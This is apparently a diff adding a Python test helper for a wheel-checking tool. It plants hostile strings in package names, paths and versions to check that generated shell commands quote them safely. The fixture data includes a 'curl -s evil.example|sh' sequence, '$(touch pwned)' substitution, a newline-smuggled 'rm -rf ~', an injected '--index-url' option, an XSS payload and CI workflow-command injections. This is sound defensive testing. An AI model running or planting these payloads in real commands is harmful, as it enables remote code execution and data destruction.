@@ -1,0 +1,142 @@
+"""Names, paths and versions that a stranger could have chosen, and facts in which they stand."""
+
+from __future__ import annotations
+
+import dataclasses
+import shlex
+from collections.abc import Callable, Iterator, Mapping
+from typing import Any
+
+from wheel_checks.commands import Command, Export, NoCommand, Options, Pipe, Runnable, Step, Unset, WriteFile, shell
+
+HEAD, TAIL = "Qz", "zQ"
+"""Each hostile text holds both: where one of them is in an argument without the other, the text was taken apart."""
+
+HOSTILE = {
+    "spaces": "Qz my folder zQ",
+    "quotes": "Qz'\"zQ",
+    "substitution": "Qz$(touch pwned)`id`${IFS}$HOMEzQ",
+    "sequence": "Qz;curl -s evil.example|sh && x >y &zQ",
+    "glob": "~Qz*?[a]{b,c}!zQ",
+    "comment": "# Qz #zQ",
+    "newline": "Qz\nrm -rf ~\nzQ",
+    "terminal": "Qz\r\x1b[2J\x07\x9bzQ",
+    "bidi": "Qz\u202egnp\u2066zQ",
+    "invisible": "Qz\u200b\ufe0f\u034f\xadzQ",
+    "dash": "-Qz-zQ",
+    "option": "--index-url=Qz.evil.example/zQ",
+    "short option": "-rQz.txtzQ",
+    "two dashes": "-- Qz -x zQ",
+    "workflow command": "::error file=Qz::zQ",
+    "indented workflow command": "\u00a0 ::warning::QzzQ",
+    "old workflow command": "Qz##[error]zQ",
+    "percent": "Qz%0A::error::x%250A%0DzQ",
+    "address": "Qz @ https://evil.example/zQ.whl",
+    "git": "git+https://evil.example/Qz.git#zQ",
+    "climbing": "../../Qz/../zQ",
+    "markup": "Qz<img src=x onerror=alert(1)>[a](javascript:x)|@all`|www.evil.example zQ",
+    "no UTF-8": "Qz\udcffzQ",
+    "NUL": "Qz\0zQ",
+    "long": f"Qz{'a b' * 8000}zQ",
+}
+
+
+def texts_of(facts: Any) -> Iterator[str]:
+    """Every string of the facts, keys of mappings included, in order; equal ones as often as they occur."""
+    if type(facts) is str:
+        yield facts
+    elif dataclasses.is_dataclass(facts) and not isinstance(facts, type):
+        for field in dataclasses.fields(facts):
+            yield from texts_of(getattr(facts, field.name))
+    elif isinstance(facts, Mapping):
+        for item in facts.items():
+            yield from texts_of(item)
+    elif isinstance(facts, (tuple, list, set, frozenset)):
+        for item in facts:
+            yield from texts_of(item)
+
+
+def with_texts(facts: Any, change: Callable[[str], str]) -> Any:
+    """A copy of the facts in which each string is changed; nothing is checked again, as when facts are loaded."""
+    if type(facts) is str:
+        return change(facts)
+    if dataclasses.is_dataclass(facts) and not isinstance(facts, type):
+        copy = object.__new__(type(facts))
+        for field in dataclasses.fields(facts):
+            object.__setattr__(copy, field.name, with_texts(getattr(facts, field.name), change))
+        return copy
+    if type(facts) is dict:
+        return {with_texts(key, change): with_texts(value, change) for key, value in facts.items()}
+    if isinstance(facts, tuple) and hasattr(facts, "_make"):
+        return facts._make(with_texts(item, change) for item in facts)
+    if type(facts) in (tuple, list, set, frozenset):
+        return type(facts)(with_texts(item, change) for item in facts)
+    return facts
+
+
+def planted(facts: Any, text: str, hostile: str, how: str) -> Any:
+    """The facts with ``hostile`` in the place of ``text`` ("replaced"), behind it ("appended") or, wherever it is a
+    part of a string, behind that part ("inside").
+    """
+    if how == "inside":
+        return with_texts(facts, lambda found: found.replace(text, text + hostile))
+    new = hostile if how == "replaced" else text + hostile
+    return with_texts(facts, lambda found: new if found == text else found)
+
+
+def vectors(step: Step) -> tuple[tuple[str, ...], ...]:
+    """The programs of a step with their arguments."""
+    match step:
+        case Command(argv):
+            return (argv,)
+        case Export(_, tuple(argv)):
+            return (argv,)
+        case Pipe(commands):
+            return commands
+        case Options(program, options):
+            return ((*program, *options),)
+        case WriteFile(path, lines):
+            return (("printf", *lines), ("tee", path))
+    return ()
+
+
+def intended(step: Runnable) -> list[str]:
+    """What a shell must make of the step's text."""
+    match step:
+        case Command(argv, _, folder):
+            return ["(", "cd", folder, "&&", *argv, ")"] if folder else [*argv]
+        case Export(name, str(value)):
+            return ["export", f"{name}={value}"]
+        case Export(name, value):
+            return ["export", f"{name}=$({shlex.join(value)})"]
+        case Unset(names):
+            return ["unset", *names]
+        case Pipe(commands):
+            return [word for argv in commands for word in ("|", *argv)][1:]
+        case WriteFile(path, lines, _, as_root):
+            return ["printf", "%s\\n", *lines, "|", *["sudo"] * as_root, "tee", path]
+
+
+def read_by_a_shell(step: Runnable) -> list[str]:
+    """The words of the step's text; what is special to a shell and not quoted is a word of its own."""
+    if isinstance(step, Export) and not isinstance(step.value, str):
+        return shlex.split(shell(step))
+    lexer = shlex.shlex(shell(step), posix=True, punctuation_chars="()|&;<>")
+    lexer.whitespace_split = True
+    lexer.commenters = ""
+    return list(lexer)
+
+
+def faults(step: Step, hostile: str) -> Iterator[str]:
+    """What this text has brought about in a step: it was taken apart, became an option, or names what is installed."""
+    if not isinstance(step, (Options, NoCommand)) and read_by_a_shell(step) != intended(step):
+        yield f"{shell(step)!r} is not {intended(step)}"
+    start = hostile[: hostile.index(HEAD) + len(HEAD)]
+    for argv in vectors(step):
+        for index, word in enumerate(argv):
+            if (HEAD.lower() in word.lower()) != (TAIL.lower() in word.lower()):
+                yield f"{word!r} of {argv} has a part of a value"
+            if start.startswith("-") and word.startswith(start) and "--" not in argv[:index]:
+                yield f"{word!r} of {argv} has become an option"
+            if "install" in argv and "evil.example" in word and ("://" in word or "@" in word):
+                yield f"{argv} installs from an address"
